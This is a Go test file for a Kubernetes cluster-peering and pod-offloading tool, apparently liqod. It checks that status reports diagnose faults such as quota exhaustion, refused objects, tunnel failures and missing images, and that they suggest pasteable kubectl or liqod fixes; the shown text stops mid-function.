package report

import (
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"

	corev1beta1 "github.com/liqod/liqod/api/core/v1beta1"
	networkingv1beta1 "github.com/liqod/liqod/api/networking/v1beta1"
	offloadingv1beta1 "github.com/liqod/liqod/api/offloading/v1beta1"
	sharingv1alpha1 "github.com/liqod/liqod/api/sharing/v1alpha1"
	"github.com/liqod/liqod/reasons"
	"github.com/liqod/liqod/shadow/rules"
)

// broken adds a pod of Deployment web to namespace shop that is on a node, and is not ready.
func broken(s *Snapshot, name, node string, change func(*corev1.PodStatus)) *corev1.Pod {
	p := pod("shop", name, node, "100m", "1Gi", corev1.PodPending)
	p.CreationTimestamp = ago(3 * time.Minute)
	p.Labels = map[string]string{"app": "web", appsv1.DefaultDeploymentUniqueLabelKey: "6c9f"}
	p.OwnerReferences = []metav1.OwnerReference{{Kind: "ReplicaSet", Name: "web-6c9f", UID: "web-6c9f", Controller: ptr.To(true)}}
	if change != nil {
		change(&p.Status)
	}
	s.Pods = append(s.Pods, p)
	return &s.Pods[len(s.Pods)-1]
}

// one is a world in which a pod of Deployment web in the provider has a status.
func one(status func(*corev1.PodStatus)) func(*Snapshot) {
	return func(s *Snapshot) { broken(s, "web-3", "milan", status) }
}

// offered is an offer between rome and milan.
func offered(provider, consumer string, status sharingv1alpha1.ResourceOfferStatus) sharingv1alpha1.ResourceOffer {
	return sharingv1alpha1.ResourceOffer{ObjectMeta: metav1.ObjectMeta{Namespace: "liqo-tenant-milan", Name: "spring"},
		Spec: sharingv1alpha1.ResourceOfferSpec{ProviderClusterID: provider, ConsumerClusterID: consumer}, Status: status}
}

// refusing is the status of a pod that the provider does not have.
func refusing(reason, message string) func(*corev1.PodStatus) {
	return func(s *corev1.PodStatus) {
		s.Reason, s.Message = reason, message
		s.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, Reason: reason, Message: message, LastTransitionTime: ago(2 * time.Minute)}}
	}
}

// unreadyFor is the status of a pod that runs in the provider.
func unreadyFor(reason, message string) func(*corev1.PodStatus) {
	return func(s *corev1.PodStatus) {
		s.Phase = corev1.PodRunning
		s.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, Reason: reason, Message: message, LastTransitionTime: ago(2 * time.Minute)}}
	}
}

// stuck is the status of a pod whose container waits.
func stuck(reason, message string) func(*corev1.PodStatus) {
	return func(s *corev1.PodStatus) {
		unreadyFor("ContainersNotReady", "containers with unready status: [app]")(s)
		s.Phase = corev1.PodPending
		s.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: reason, Message: message}}}}
	}
}

// crashed is the status of a pod whose container ends again and again.
func crashed(code int32, reason string) func(*corev1.PodStatus) {
	return func(s *corev1.PodStatus) {
		stuck("CrashLoopBackOff", "back-off 40s restarting failed container")(s)
		s.ContainerStatuses[0].RestartCount = 3
		s.ContainerStatuses[0].LastTerminationState.Terminated = &corev1.ContainerStateTerminated{ExitCode: code, Reason: reason}
	}
}

// unplaced is the status of a pod that this cluster's scheduler cannot place.
func unplaced(message string) func(*corev1.PodStatus) {
	return func(s *corev1.PodStatus) {
		s.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: corev1.PodReasonUnschedulable, Message: message, LastTransitionTime: ago(2 * time.Minute)}}
	}
}

func warningAbout(p *corev1.Pod, reason, message string) corev1.Event {
	return corev1.Event{Type: corev1.EventTypeWarning, Reason: reason, Message: message, LastTimestamp: ago(time.Minute),
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: p.Namespace, Name: p.Name, UID: p.UID}}
}

// offloadedAs lets a pod have the affinity and toleration of an offloading.
func offloadedAs(p *corev1.Pod, strategy offloadingv1beta1.PodOffloadingStrategy, selector corev1.NodeSelector) {
	bare := &corev1.Pod{Spec: p.Spec}
	bare.Spec.NodeName = ""
	out, err := rules.Offload(bare, strategy, selector)
	if err != nil {
		panic(err) // of the arguments of a test
	}
	p.Spec = out.Spec
}

func region(values ...string) corev1.NodeSelector {
	return corev1.NodeSelector{NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{
		{Key: "region", Operator: corev1.NodeSelectorOpIn, Values: values}}}}}
}

func nobodyChosen(s *Snapshot) {
	set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "NoClusterSelected", "no virtual node matches spec.clusterSelector")
	s.Offloadings[0].Status.RemoteNamespacesConditions = nil
}

// refuses lets the provider of the virtual node refuse objects, as its vkubelet writes it.
func refuses(s *Snapshot, objects ...offloadingv1beta1.RefusedObject) {
	s.Nodes[0].Labels[corev1beta1.RemoteClusterIDLabel] = "milan"
	s.Nodes[0].Status.Conditions = append(s.Nodes[0].Status.Conditions, corev1.NodeCondition{Type: offloadingv1beta1.ReasonReflectionRefused,
		Status: corev1.ConditionTrue, Reason: offloadingv1beta1.ReasonReflectionRefused, Message: offloadingv1beta1.RefusedText(objects)})
}

// TestRefusedObjects: each object that a provider refuses is a warning, also of one namespace alone, and to a
// person who may not read Nodes.
func TestRefusedObjects(t *testing.T) {
	var objects []offloadingv1beta1.RefusedObject
	for i := range 20 {
		objects = append(objects, offloadingv1beta1.RefusedObject{Kind: "configmap", Namespace: "lab", Name: fmt.Sprintf("c-%02d", i), Cause: "no"})
	}
	objects = append(objects, offloadingv1beta1.RefusedObject{Kind: "service", Namespace: "shop", Name: "ext", Cause: "no"})
	warnings := func(s *Snapshot) (names []string) {
		for _, f := range Summarize(s).Warnings {
			names = append(names, f.Name()+": "+f.Message)
		}
		return names
	}
	s := healthy(t)
	refuses(s, objects...)
	all := warnings(s)
	require.Len(t, all, 17)
	require.Contains(t, all, "milan, service ext of namespace shop: no")
	require.Contains(t, all, "milan, further objects: it refuses 5 more")
	s.Only = "shop"
	require.Equal(t, []string{"milan, service ext of namespace shop: no", "milan, further objects: it refuses 5 more"}, warnings(s))

	s.Nodes, s.Unread[ReadNodes] = nil, denied("nodes")
	event := corev1.Event{Type: corev1.EventTypeWarning, Reason: offloadingv1beta1.ReasonFailedReflection, Message: "cluster milan refuses it: no", LastTimestamp: ago(5 * time.Minute),
		InvolvedObject: corev1.ObjectReference{Kind: "Service", Namespace: "shop", Name: "ext"}}
	late := event
	late.InvolvedObject.Name, late.LastTimestamp = "old", ago(2*time.Hour)
	s.Events = []corev1.Event{event, late, event}
	require.Equal(t, []string{"service ext of namespace shop: cluster milan refuses it: no (an event of 5m ago)"}, warnings(s))
	s.Events = nil
	require.Empty(t, warnings(s))
}

func denied(resource string) error {
	err := apierrors.NewForbidden(schema.GroupResource{Group: "core.liqo.io", Resource: resource}, "", nil)
	err.ErrStatus.Message = resource + `.core.liqo.io is forbidden: User "jane" cannot list resource "` + resource + `" in API group "core.liqo.io" at the cluster scope`
	return err
}

// pastes checks that a fix is what a person can paste: each of its commands has a line of its own, and
// the first line is a command, or says in which cluster the next one runs.
func pastes(t *testing.T, s *Status) {
	t.Helper()
	for _, f := range slices.Concat(s.Problems, s.Warnings) {
		if f.Because != "" || f.Level == Warning && f.Fix == "" {
			continue
		}
		commands := 0
		for i, line := range strings.Split(f.Fix, "\n") {
			if strings.HasPrefix(line, "kubectl ") || strings.HasPrefix(line, "liqod ") || strings.HasPrefix(line, "curl ") {
				commands++
				continue
			}
			require.NotRegexp(t, `\b(kubectl|liqod) [a-z-]`, line, "%s: %s", f.Name(), f.Fix)
			require.True(t, i > 0 || strings.HasSuffix(line, ":"), "%s: %s", f.Name(), f.Fix)
		}
		require.NotZero(t, commands, "%s: %s", f.Name(), f.Fix)
	}
}

// nowhere takes the virtual node of milan away, and what is on it.
func nowhere(s *Snapshot) {
	s.Offloadings[0].Status.Conditions = []metav1.Condition{is(offloadingv1beta1.RemoteNamespaceReady, metav1.ConditionFalse, string(offloadingv1beta1.PhaseNoClusterSelected), "none")}
	s.VirtualNodes, s.Nodes, s.Pods, s.Maps = nil, nil, nil, nil
}

// TestFaults: status and check name the cause of each fault and what to do about it, once, and no
// fault is healthy.
func TestFaults(t *testing.T) {
	page, err := os.ReadFile("../../../docs/checks.md")
	require.NoError(t, err)
	for name, tc := range map[string]struct {
		change func(*Snapshot)
		level  Level
		// line is the finding, and fix a command or advice, each in part; therefore is the list of
		// consequences that status prints.
		line, fix, therefore string
	}{
		"wrong token of a peer that is new": {func(s *Snapshot) {
			tells(s, corev1beta1.ConditionAuthenticated, metav1.ConditionFalse, "TokenRefused", "the token is used up")
			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonNotAsked, "no capacity has been requested yet")
		}, Problem, "milan, identity: the token is used up", "In cluster milan:\n           liqod token create --for rome\n           In this cluster:\n           liqod peer --token TOKEN\n",
			"Therefore: milan, capacity used there\n"},
		"certificate of the identity expired": {server(metav1.ConditionFalse, corev1beta1.ReasonInvalidCredentials, "the client certificate has expired"),
			Problem, "milan, API server: the client certificate has expired", "liqod token create --for rome", ""},
		"rights withdrawn by the peer, with all that follows": {func(s *Snapshot) {
			apiServer(s, metav1.ConditionUnknown, corev1beta1.ReasonIdentityUnknown, "the API server does not tell which cluster it is")
			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionUnknown, corev1beta1.ReasonRightsRevoked, "milan has revoked the rights of this cluster")
			s.Nodes[0].Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionFalse, Reason: corev1beta1.ReasonRightsRevoked, Message: "no rights"}}
			broken(s, "web-3", "milan", unreadyFor(reasons.RemotePodTerminating, "the provider is removing the pod"))
		}, Problem, "milan, capacity used there: milan has revoked the rights of this cluster (RightsRevoked; Unknown for ", "liqod unpeer milan",
			"Therefore: milan, virtual node milan; milan, API server; milan, pods of namespace shop"},
		"rights withdrawn by the peer, and pods that have ended there": {func(s *Snapshot) {
			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionUnknown, corev1beta1.ReasonRightsRevoked, "milan has revoked the rights of this cluster")
			broken(s, "web-3", "milan", unreadyFor("PodCompleted", "")).Status.ContainerStatuses = []corev1.ContainerStatus{exited("app", "Error", 1)}
		}, Problem, "milan, capacity used there: milan has revoked the rights of this cluster", "liqod unpeer milan", "Therefore: milan, pods of namespace shop"},
		"the provider's controller does not run": {func(s *Snapshot) {
			s.Nodes[0].Status.Conditions = append(s.Nodes[0].Status.Conditions, corev1.NodeCondition{Type: offloadingv1beta1.ReasonControllerSilent,
				Status: corev1.ConditionTrue, Reason: offloadingv1beta1.ReasonControllerSilent, Message: "no controller of the provider has renewed its Lease"})
			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonControllerSilent, "no controller of the provider has renewed its Lease"))
		}, Problem, "milan, virtual node milan: it is Ready, but no controller of the provider has renewed its Lease", "liqod check",
			"Therefore: milan, pods of namespace shop"},
		"no rights to read": {func(s *Snapshot) {
			s.ForeignClusters, s.VirtualNodes, s.Nodes, s.Offloadings, s.Pods = nil, nil, nil, nil, nil
			s.Unread[ReadForeignClusters], s.Unread[ReadVirtualNodes], s.Unread[ReadOffloadings] = denied("foreignclusters"), denied("virtualnodes"), denied("namespaceoffloadings")
		}, Unknown, `rights: user "jane" may not read ForeignClusters, VirtualNodes, NamespaceOffloadings`,
			"kubectl create clusterrole liqod-status --verb=get,list --resource=deployments.apps,", ""},
		"no room in the quota": {one(refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)")),
			Problem, "milan, pods of namespace shop: 1 of 3 pods waits (QuotaExceeded); the first, web-3: the pod of cluster rome waits: its quota has no room left", "liqod status milan", ""},
		"larger than the quota, told by the webhook": {one(refusing(offloadingv1beta1.ReasonQuotaTooSmall, "cluster milan refuses the ShadowPod: the pod alone is larger than the quota of cluster rome (cpu: 5 requested, 1 allowed in all)")),
			Problem, "1 of 3 pods is refused (QuotaTooSmall); the first, web-3: cluster milan refuses the ShadowPod: the pod alone is larger",
			"liqod status milan\n           In cluster milan:\n           kubectl -n liqo-tenant-rome edit quotas.offloading.liqo.io\n", ""},
		"no requests, told by the webhook": {one(refusing(offloadingv1beta1.ReasonQuotaUndeclared, "cluster milan refuses the ShadowPod: the quota of cluster rome requires declared CPU and memory (Soft): container app has no resources.requests.cpu")),
			Problem, "container app has no resources.requests.cpu", "kubectl -n shop edit deployment web\n           Set the requests and limits", ""},
		"no room in the quota of an offer": {func(s *Snapshot) {
			s.VirtualNodes[0].Labels = map[string]string{offloadingv1beta1.ManagedByLabel: sharingv1alpha1.ManagedByOffer}
			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)"))
		}, Problem, "its quota has no room left", `kubectl apply -f - <<<'{"apiVersion":"offloading.liqo.io/v1beta1","kind":"Quota","metadata":{"name":"more","namespace":"liqo-tenant-rome"},"spec":{"resources":{"cpu":"CPU",`, ""},
		"offer to approve": {func(s *Snapshot) {
			s.Offers = []sharingv1alpha1.ResourceOffer{offered("rome", "milan", sharingv1alpha1.ResourceOfferStatus{})}
			tells(s, corev1beta1.ConditionIncomingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonApprovalRequired, "the offer spring waits for approval")
		}, Problem, "milan, capacity used here: the offer spring waits for approval", "liqod offer approve spring -n liqo-tenant-milan\n", ""},
		"offer to accept": {func(s *Snapshot) {
			s.Offers = []sharingv1alpha1.ResourceOffer{offered("milan", "rome", sharingv1alpha1.ResourceOfferStatus{Reason: sharingv1alpha1.ReasonAcceptanceRequired})}
			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, "OfferNotUsed", "spring: a person must accept it")
		}, Problem, "milan, capacity used there: spring: a person must accept it", "liqod offer approve spring -n liqo-tenant-milan\n", ""},
		"offer that the peer has to approve": {told(corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonApprovalRequired, "its people have to approve the offer"),
			Problem, "milan, capacity used there: its people have to approve the offer",
			"In cluster milan:\n           liqod offer list\n           shows what is asked and offered. To approve an offer:\n           liqod offer approve NAME -n liqo-tenant-rome\n", ""},
		"vkubelet hangs": {func(s *Snapshot) {
			s.Nodes[0].Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionUnknown, Reason: "NodeStatusUnknown", Message: "Kubelet stopped posting node status."}}
		}, Unknown, "milan, virtual node milan: the Node is not Ready: Kubelet stopped posting node status. (NodeStatusUnknown)",
			"kubectl -n liqo-tenant-milan delete pods -l liqo.io/virtual-node=milan\n", ""},
		"a Quota here that somebody has cordoned": {func(s *Snapshot) {
			s.Quotas = []offloadingv1beta1.Quota{{ObjectMeta: metav1.ObjectMeta{Namespace: "liqo-tenant-milan", Name: "milan"}, Spec: offloadingv1beta1.QuotaSpec{Cordoned: new(true)}}}
		}, Warning, "milan, Quota milan: spec.cordoned is true: it gives nothing to new pods of cluster milan, which wait (QuotaCordoned) unless another Quota has room",
			`kubectl -n liqo-tenant-milan patch quotas.offloading.liqo.io milan --type=merge -p '{"spec":{"cordoned":false}}'`, ""},
		"offer withdrawn": {one(refusing(offloadingv1beta1.ReasonQuotaCordoned, "the quota of cluster rome is cordoned: no new pod starts")),
			Problem, "1 of 3 pods waits (QuotaCordoned); the first, web-3: the quota of cluster rome is cordoned", "kubectl cordon milan", ""},
		"privileged there": {one(refusing(offloadingv1beta1.ReasonPodRefused, `pods "web-3" is forbidden: violates PodSecurity "baseline:latest": privileged`)),
			Problem, `is refused (PodRefused); the first, web-3: pods "web-3" is forbidden: violates PodSecurity`, "controller.podSecurityLevel", ""},
		"no node fits there": {func(s *Snapshot) {
			broken(s, "web-3", "milan", func(st *corev1.PodStatus) {
				unreadyFor(corev1.PodReasonUnschedulable, "in the provider: 0/3 nodes are available: 3 Insufficient cpu.")(st)
				st.Phase = corev1.PodPending
			})
		}, Problem, "1 of 3 pods is unschedulable in cluster milan (Unschedulable); the first, web-3: in the provider: 0/3 nodes are available", "kubectl -n shop edit deployment web", ""},
		"ConfigMap of a variable missing there": {one(stuck("CreateContainerConfigError", `configmap "settings" not found`)),
			Problem, `is not ready (CreateContainerConfigError); the first, web-3: container app: configmap "settings" not found`, "kubectl -n shop get configmap settings", ""},
		"ConfigMap of a volume missing there": {func(s *Snapshot) {
			p := broken(s, "web-3", "milan", stuck("ContainerCreating", ""))
			s.Events = []corev1.Event{warningAbout(p, "FailedMount", `MountVolume.SetUp failed for volume "v" : configmap "shop-rome/settings" not found`)}
		}, Problem, `is not ready (FailedMount); the first, web-3: MountVolume.SetUp failed`, "kubectl -n shop get configmap settings", ""},
		"Secret missing there": {one(stuck("CreateContainerConfigError", `secret "key" not found`)), Problem, `container app: secret "key" not found`, "kubectl -n shop get secret key", ""},
		"image missing there": {one(stuck("ImagePullBackOff", `Back-off pulling image "web:nope"`)),
			Problem, `is not ready (ImagePullBackOff); the first, web-3: container app: Back-off pulling image "web:nope"`, "kubectl -n shop edit deployment web", ""},
		"no image for another start": {func(s *Snapshot) {
			broken(s, "web-3", "milan", crashed(0, "Completed")).Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{
				Reason: "ImagePullBackOff", Message: "Back-off pulling image \"nginx:typo\""}
		}, Problem, "is not ready (ImagePullBackOff); the first, web-3: container app: Back-off pulling image", "kubectl -n shop edit deployment web", ""},
		"readiness probe fails": {func(s *Snapshot) {
			p := broken(s, "web-3", "milan", unreadyFor("ContainersNotReady", "containers with unready status: [app]"))
			s.Events = []corev1.Event{warningAbout(p, "Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 500")}
		}, Problem, "is not ready (Unhealthy); the first, web-3: Readiness probe failed", "kubectl -n shop describe pod web-3", ""},
		"on a virtual node of a namespace that is not offloaded": {func(s *Snapshot) {
			p := broken(s, "job", "milan", refusing(offloadingv1beta1.ReasonOffloadingBackOff, "namespace lab is not offloaded to cluster milan"))
			p.Namespace, p.Status.Conditions[0].LastTransitionTime, p.CreationTimestamp = "lab", ago(6*time.Minute), ago(7*time.Minute)
		}, Problem, "milan, pods of namespace lab: pod job waits (OffloadingBackOff): namespace lab is not offloaded", "liqod offload namespace lab", ""},
		"a pod that selects virtual nodes in a namespace that is not offloaded": {func(s *Snapshot) {
			p := broken(s, "job", "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
			p.Namespace, p.Spec.NodeSelector, p.OwnerReferences = "lab", map[string]string{offloadingv1beta1.TypeLabel: offloadingv1beta1.TypeVirtualNode}, nil
		}, Problem, "pods of namespace lab: pod job waits for a node (Unschedulable): it asks for virtual nodes, and its namespace is not offloaded: 0/4 nodes are available",
			"Fix: liqod offload namespace lab --pod-offloading-strategy LocalAndRemote\n           kubectl -n lab delete pod job\n           and create it again from its manifest: no controller does it. Or remove what selects virtual nodes from it.", ""},
		"a provisioner's pod on a virtual node": {func(s *Snapshot) {
			p := broken(s, "helper-pod", "milan", refusing(offloadingv1beta1.ReasonOffloadingBackOff, "namespace local-path-storage is not offloaded to cluster milan"))
			p.Namespace, p.Status.Conditions[0].LastTransitionTime, p.CreationTimestamp = "local-path-storage", ago(6*time.Minute), ago(7*time.Minute)
			p.Spec.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/opt"}}}}
		}, Problem, "milan, pods of namespace local-path-storage: pod helper-pod waits (OffloadingBackOff)",
			"Fix: kubectl -n local-path-storage get pod helper-pod -o yaml\n           shows what has placed it on virtual node milan: keep the pod off virtual nodes.", ""},
		"objects that the provider refuses": {func(s *Snapshot) {
			refuses(s, offloadingv1beta1.RefusedObject{Kind: "service", Namespace: "shop", Name: "ext", Cause: "cluster milan refuses it: its setting sharing.serviceFields lets peers choose it"})
		}, Warning, "\n  ‼ milan, service ext of namespace shop: cluster milan refuses it: its setting sharing.serviceFields lets peers choose it\n      Fix: kubectl -n shop edit service ext\n",
			"kubectl -n shop annotate service ext liqo.io/skip-reflection=true\n", ""},
		"selector with a typing error": {func(s *Snapshot) {
			nobodyChosen(s)
			s.Nodes[0].Labels["region"] = "north"
			s.Offloadings[0].Spec.ClusterSelector, s.Offloadings[0].Spec.PodOffloadingStrategy = region("nowhere"), offloadingv1beta1.PodsRemote
			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
			offloadedAs(p, offloadingv1beta1.PodsRemote, region("nowhere"))
			s.Templates = map[types.UID]corev1.PodTemplateSpec{"web-6c9f": {}}
		}, Problem, "namespace shop: spec.clusterSelector (region in (nowhere)) matches none of the virtual nodes: milan (region=north)",
			"liqod offload namespace shop --selector region=north --pod-offloading-strategy Remote", "Therefore: pods of namespace shop"},
		"no virtual node at all": {func(s *Snapshot) {
			nobodyChosen(s)
			s.VirtualNodes, s.Nodes, s.ForeignClusters, s.Pods, s.Maps = nil, nil, nil, nil, nil
		}, Problem, "namespace shop: there is no virtual node: this cluster uses no provider", "liqod peer --token TOKEN", ""},
		"no virtual node, several namespaces": {func(s *Snapshot) {
			nowhere(s)
			s.Offloadings = append(s.Offloadings, *s.Offloadings[0].DeepCopy())
			s.Offloadings[1].Namespace = "market"
			s.ForeignClusters = nil
		}, Problem, "providers: this cluster uses no provider, and 2 namespaces are offloaded", "liqod peer --token TOKEN", "namespace shop; namespace market"},
		"endpoint that does not answer": {func(s *Snapshot) {
			nowhere(s)
			s.ForeignClusters[0].Status.Role = corev1beta1.RoleUnknown
			s.ForeignClusters[0].Status.Conditions = []metav1.Condition{
				is(corev1beta1.ConditionReady, metav1.ConditionFalse, "SomeCheckFails", "no identity"),
				is(corev1beta1.ConditionAuthenticated, metav1.ConditionFalse, corev1beta1.ReasonPeerUnreachable, "the authentication endpoint of cluster milan at https://127.0.0.1:39999 does not answer"),
				is(corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, "NotAsked", "no capacity has been requested from cluster milan yet"),
			}
		}, Problem, "milan, identity: the authentication endpoint of cluster milan at https://127.0.0.1:39999 does not answer", "liqod token create --url URL --for rome\n",
			"milan, capacity used there; namespace shop"},
		"affinity of an earlier offloading": {func(s *Snapshot) {
			for _, name := range []string{"web-3", "web-4"} {
				p := broken(s, name, "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
				offloadedAs(p, offloadingv1beta1.PodsRemote, region("nowhere"))
			}
			s.Templates = map[types.UID]corev1.PodTemplateSpec{"web-6c9f": {}}
		}, Problem, "pods of namespace shop: 2 pods (web-3, …) wait for a node, with the affinity of an earlier NamespaceOffloading", "kubectl -n shop delete pod web-3 web-4", ""},
		"own node selector, and the runtime class": {func(s *Snapshot) {
			p := broken(s, "web-3", "", unplaced("0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector."))
			p.OwnerReferences, p.Spec.RuntimeClassName, p.Spec.NodeSelector = nil, ptr.To(offloadingv1beta1.RuntimeClassName), map[string]string{"disktype": "ssd"}
			offloadedAs(p, offloadingv1beta1.PodsLocalAndRemote, corev1.NodeSelector{})
		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/2 nodes are available", "kubectl -n shop replace --force -f web-3.yaml", ""},
		"no room at home": {func(s *Snapshot) {
			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 4 Insufficient cpu."))
			p.Spec.Tolerations = []corev1.Toleration{{Key: offloadingv1beta1.VirtualNodeTaintKey, Operator: corev1.TolerationOpExists}}
		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available: 4 Insufficient cpu.", "kubectl -n shop edit deployment web", ""},
		"virtual node cordoned": {func(s *Snapshot) {
			s.Nodes[0].Spec.Unschedulable = true
			broken(s, "web-3", "", unplaced("0/4 nodes are available: 3 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable."))
		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available", "Fix: kubectl uncordon milan\n", ""},
		"virtual node being removed": {func(s *Snapshot) {
			s.Nodes[0].Spec.Unschedulable = true
			s.VirtualNodes[0].DeletionTimestamp = ptr.To(ago(time.Minute))
			broken(s, "web-3", "", unplaced("0/4 nodes are available: 3 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable."))
		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available", "virtual node milan is being removed", ""},
		"no class for a claim": {func(s *Snapshot) {
			p := broken(s, "db-0", "", unplaced(`running PreBind plugin "VolumeBinding": binding volumes: provisioning failed for PVC "data-db-0"`))
			p.Status.Conditions[0].Reason = corev1.PodReasonSchedulerError
			p.Spec.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-db-0"}}}}
		}, Problem, "pods of namespace shop: pod db-0 waits for a node (SchedulerError)", "kubectl -n shop describe pvc data-db-0\n", ""},
		"controller down": {func(s *Snapshot) {
			s.Roles[0].Spec.Replicas, s.Roles[0].Status.ReadyReplicas = ptr.To[int32](0), 0
			s.Leases[0].Spec.RenewTime = ptr.To(metav1.NewMicroTime(now.Add(-time.Minute)))
		}, Problem, "role controller: it is scaled to zero", "kubectl -n liqod scale deployment/liqod-controller --replicas=1",
			"Therefore: milan, API server; milan, namespaces asked for; namespace shop"},
		"webhook down": {func(s *Snapshot) {
			s.Roles[1].Status = appsv1.DeploymentStatus{Conditions: []appsv1.DeploymentCondition{{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Message: "exceeded its progress deadline"}}}
		}, Problem, "role webhook: 0 of 2 replicas are ready: exceeded its progress deadline", "logs deployment/liqod-webhook", ""},
		"heartbeats missed": {server(metav1.ConditionFalse, corev1beta1.ReasonHeartbeatMissed, "milan has not renewed its Lease for 40s"),
			Problem, "milan, API server: milan has not renewed its Lease", "In cluster milan:\n           liqod check\n", ""},
		"tunnel down, and with it what the peer reports": {func(s *Snapshot) {
			apiServer(s, metav1.ConditionUnknown, networkingv1beta1.ReasonTunnelDown, "no probe comes through the tunnel")
			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, networkingv1beta1.ReasonTunnelDown, "no probe is answered")
		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get configurations.networking.liqo.io -o custom-columns=", "Therefore: milan, API server"},
		"tunnel down": {func(s *Snapshot) {
			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, networkingv1beta1.ReasonTunnelDown, "no probe is answered")
			for i := range s.Pods[:2] {
				unreadyFor(reasons.NetworkUnavailable, "the network to the provider does not work")(&s.Pods[i].Status)
			}
		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get connections.networking.liqo.io -o wide\n", "Therefore: milan, pods of namespace shop"},
		"vkubelet down": {func(s *Snapshot) {
			set(s.VirtualNodes[0].Status.Conditions, offloadingv1beta1.VirtualNodeVirtualKubelet, metav1.ConditionFalse, "NotAvailable", "none of 2 vkubelet replicas is available")
			for i := range s.Pods[:2] {
				unreadyFor(reasons.NodeNotReady, "the virtual node is not ready")(&s.Pods[i].Status)
			}
			broken(s, "web-3", "milan", nil).Status.Conditions = nil
			broken(s, "web-4", "milan", nil).DeletionTimestamp = ptr.To(ago(10 * time.Minute))
		}, Problem, "milan, virtual node milan, vkubelet: none of 2 vkubelet replicas is available", "kubectl -n liqo-tenant-milan logs deployment/vk-milan", "Therefore: milan, pods of namespace shop"},
		"twins refused by two peers": {func(s *Snapshot) {
			s.Offloadings[0].Spec.NamespaceMappingStrategy = offloadingv1beta1.EnforceSameName
			set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "AllFailed", "milan: namespace shop exists already in cluster milan; turin: namespace shop exists already in cluster turin")
			s.Offloadings[0].Status.RemoteNamespacesConditions = map[string][]metav1.Condition{}
			for _, id := range []string{"milan", "turin"} {
				s.Offloadings[0].Status.RemoteNamespacesConditions[id] = []metav1.Condition{is("Ready", metav1.ConditionFalse, "CreationLoopBackOff", "namespace shop exists already in cluster "+id)}
			}
			set(s.Maps[0].Status.Conditions, "Ready", metav1.ConditionFalse, "CreationLoopBackOff", "shop: namespace shop exists already in cluster milan")
			s.Maps[0].Status.CurrentMapping = map[string]offloadingv1beta1.RemoteNamespaceStatus{"shop": {RemoteNamespace: "shop", Phase: offloadingv1beta1.MappingCreationLoopBackOff}}
		}, Problem, "namespace shop: milan, turin: namespace shop exists already in the cluster (AllFailed; ", "liqod unoffload namespace shop\n           liqod offload namespace shop\n",
			"Therefore: milan, namespaces asked for"},
		"gateway scaled to zero": {func(s *Snapshot) {
			s.Roles[3].Spec.Replicas, s.Roles[3].Status = ptr.To[int32](0), appsv1.DeploymentStatus{}
			apiServer(s, metav1.ConditionUnknown, networkingv1beta1.ReasonTunnelDown, "no probe comes through the tunnel")
			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionUnknown, corev1beta1.ReasonNoGateway, "no gateway reports")
			for i := range s.Pods[:2] {
